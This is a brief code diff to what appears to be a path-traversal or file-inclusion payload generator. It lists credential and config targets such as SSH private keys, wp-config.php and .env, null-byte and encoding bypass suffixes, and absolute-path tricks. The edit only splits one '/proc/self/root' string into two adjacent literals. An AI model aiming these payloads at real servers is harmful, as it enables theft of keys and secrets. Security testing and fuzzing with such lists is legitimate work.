@@ -72,7 +72,7 @@ PATHS = {
              "var/log/{word}.log", "var/log/apache2/error.log", "var/www/html/config.php", "var/www/html/wp-config.php", "root/.bash_history", "root/.ssh/id_rsa", "home/{word}/.ssh/authorized_keys", ".env", ".git/config", ".htpasswd", "config.php", "config.inc.php", "settings.py", "config/database.yml", "application.properties", "opt/{word}/{word}.conf", "usr/local/etc/php.ini"],
     "ext": ["php", "txt", "xml", "ini", "conf", "log", "jsp", "yml", "json", "inc", "db", "bak", "html", "js"],
     "post": ["", "", "", "%00", "%00.jpg", "%00.html", "\x00", "::$data", "?", "#", ".html", "/.", "%20", "%2500", ";{word}", "%0a", ".", "%3f", " "],
-    "abs": ["/{file}", "//{file}", "C:/{file}", "c:\\{file}", "file:///{file}", "\\\\?\\C:\\{file}", "/./{file}", "/{word}/../{file}", "\\\\127.0.0.1\\c$\\{word}", "~root/{word}", "~/.{word}rc", "/proc/self/cwd/{word}", "/proc/self/root/{file}", "/dev/fd/{d}", "file:/{file}", "file:////{file}"],
+    "abs": ["/{file}", "//{file}", "C:/{file}", "c:\\{file}", "file:///{file}", "\\\\?\\C:\\{file}", "/./{file}", "/{word}/../{file}", "\\\\127.0.0.1\\c$\\{word}", "~root/{word}", "~/.{word}rc", "/proc/self/cwd/{word}", "/proc/self/" "root/{file}", "/dev/fd/{d}", "file:/{file}", "file:////{file}"],
 }
 
 WIDE = {
